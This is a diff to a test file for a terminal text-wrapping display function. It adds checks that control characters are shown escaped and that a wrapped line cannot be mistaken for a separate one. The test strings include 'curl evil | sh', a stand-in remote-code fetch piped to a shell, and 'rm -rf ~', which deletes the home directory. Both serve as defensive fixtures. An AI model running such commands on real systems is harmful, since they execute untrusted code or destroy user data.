@@ -18,12 +18,21 @@ test.for(hidden)('no row hides what is between two of %j, or begins without its 
   const text = `: ${character}; curl evil | sh;${character}\u0007 ok${character}`;
   for (const columns of [10, 80]) {
     const rows = barredRows(`+${text}\n+next`, columns);
-    expect(rows.filter((row) => !/^│ [^\p{C}\p{Zl}\p{Zp}]*$/u.test(row))).toEqual([]);
+    expect(rows.filter((row) => !/^│[ ↳][^\p{C}\p{Zl}\p{Zp}]*$/u.test(row))).toEqual([]);
     const number = `<${(character.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, '0')}>`;
     const shown = rows.map((row) => row.slice(2)).join('');
     expect(shown.split(number)).toHaveLength(text.split(character.slice(0, 1)).length);
     expect(shown).toContain('; curl evil | sh;');
     expect(Math.max(...[...rows, ...quotedRows(text, columns)].map(columnsOf))).toBeLessThan(columns);
+  }
+});
+
+test('no line can pass for the rest of the line above it, at any width', () => {
+  const lines = ['# a comment', '漢字 # a comment', `${'x'.repeat(30)} # y`, 'rm -rf ~', ''];
+  const texts = lines.flatMap((first) => lines.flatMap((second) => [`${first}${second}`, `${first}\n${second}`]));
+  const distinct = new Set(texts);
+  for (let columns = 4; columns < 90; columns += 1) {
+    expect(new Set([...distinct].map((text) => barredRows(text, columns).join('\n'))).size).toBe(distinct.size);
   }
 });
 
